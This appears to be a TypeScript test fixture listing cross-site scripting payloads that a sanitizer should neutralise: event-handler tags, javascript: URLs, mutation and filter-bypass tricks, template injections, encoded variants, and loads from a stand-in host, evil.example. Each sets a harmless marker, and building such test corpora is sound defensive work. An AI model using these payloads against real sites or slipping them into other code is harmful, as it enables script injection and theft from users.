// Corpus of texts that would run a script or become markup where they are shown (GO-15). What runs sets `scriptRan`; what becomes an element has a handler, a script's address or `data-markup`.

const RUN = 'window.scriptRan=1';
const RUN_URL = `javascript:${RUN}`;

/** Elements that run their handler by themselves. */
const SELF_RUNNING: readonly (readonly [element: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><image href=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onend'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['body', 'onpageshow'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=x autofocus', 'onfocus'],
  ['div tabindex=0 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['style>@keyframes q{}</style><b style=animation:q', 'onanimationstart'],
  ['b style=transition:all', 'ontransitionend'],
  ['div style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
  ['dialog open', 'onclose'],
];
/** As filters have missed them. */
const SPELLINGS: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}="${RUN}">${endOf(element)}`,
  (element, handler) => `<${element.toUpperCase()}\f${handler.toUpperCase()}='${RUN}'/>${endOf(element)}`,
  (element, handler) => `<${element}\n\t${handler}\n=\n${entities(RUN)}\n>${endOf(element)}`,
];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script/y>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>/*<!--*/${RUN}//--></script>`,
  `<script type=module>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style></mglyph></math>`,
  `<math href="${RUN_URL}" data-markup>x</math>`,
  `<svg><a xlink:href="${RUN_URL}" data-markup><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" data-markup></use></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>" data-markup></iframe>`,
  `<iframe src="${RUN_URL}" data-markup></iframe>`,
  `<object data="${RUN_URL}" data-markup></object>`,
  `<embed src="${RUN_URL}" data-markup>`,
  `<form action="${RUN_URL}" data-markup><button>x</button></form>`,
  `<button formaction="${RUN_URL}" data-markup>x</button>`,
  `<a href="${RUN_URL}" data-markup>x</a>`,
  `<a href="java&#x0a;script:${RUN}" data-markup>x</a>`,
  `<a href="&#106;avascript:${RUN}" data-markup>x</a>`,
  `<base href="//evil.example/" data-markup>`,
  `<meta http-equiv=refresh content="0;url=${RUN_URL}" data-markup>`,
  `<link rel=import href=//evil.example data-markup>`,
  `<style data-markup>@import '//evil.example/x.css';</style>`,
  `<b style="background:url(${RUN_URL})" data-markup>x</b>`,
  `<b style="width:expression(${RUN})" data-markup>x</b>`,
  `<template data-markup><img src=x onerror=${RUN}></template>`,
  `<slot data-markup onslotchange="${RUN}"></slot>`,
  `<b data-markup contenteditable onblur="${RUN}">x</b>`,
  `<div data-markup onpointerover="${RUN}" style="position:fixed;inset:0"></div>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<x-a data-markup is=x-b onclick=${RUN}>x</x-a>`,
  `<b data-markup>bold</b>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${RUN}')}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%25 if ${RUN} %25}`,
  `[[${RUN}]]`,
  `[x](${RUN_URL})`,
  `![x](x"onerror="${RUN})`,
  `<${RUN_URL}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus=${RUN} x="`,
  `';${RUN};'`,
  `";${RUN};"`,
  `\\';${RUN};//`,
  `</script><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `*/${RUN}/*`,
  `);${RUN};(`,
  `\u2028${RUN}\u2028`,
  `<img src=x \0onerror=${RUN}>`.replace('\0', '\u000c'),
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];
/** They take in whatever follows, so that each stands last. */
const OPEN_ENDED = [
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<title><img src="</title><img src=x onerror=${RUN}//">`,
  `<textarea></textarea><img src=x onerror=${RUN} alt="`,
  `<style><!--</style><img src=x onerror=${RUN} alt="`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN} alt='`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]>`,
  `<table><td background="${RUN_URL}" data-markup><b>`,
  `<select><option><img src=x onerror=${RUN}>`,
  `<plaintext data-markup>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>`,
  `<a href="${RUN_URL}" data-markup><`,
];

/** Of elements that hold text alone. */
function endOf(element: string): string {
  const [name = ''] = element.split(' ');
  return ['script', 'iframe', 'textarea', 'select', 'object'].includes(name) ? `</${name}>` : '';
}

function entities(text: string): string {
  return [...text].map((sign) => `&#${sign.charCodeAt(0)};`).join('');
}

const closed = [
  ...SELF_RUNNING.flatMap(([element, handler]) => SPELLINGS.map((spell) => spell(element, handler))),
  ...WHOLE,
];

export const SCRIPT_PAYLOADS: readonly string[] = [...closed, ...OPEN_ENDED];

/** All of them, several in each text; what takes in the rest of its text is its last. */
export const SCRIPT_TEXTS: readonly string[] = OPEN_ENDED.map((last, at) =>
  [...closed.filter((_one, no) => (no + Math.floor(no / OPEN_ENDED.length)) % OPEN_ENDED.length === at), last].join(
    ' ',
  ),
);

/** For fields that hold an address. */
export const SCRIPT_URLS: readonly string[] = [
  RUN_URL,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://vedette.example/%0a${RUN}`,
  `data:text/html,<script>opener.${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:${RUN}`,
  `"onerror="${RUN}`,
];
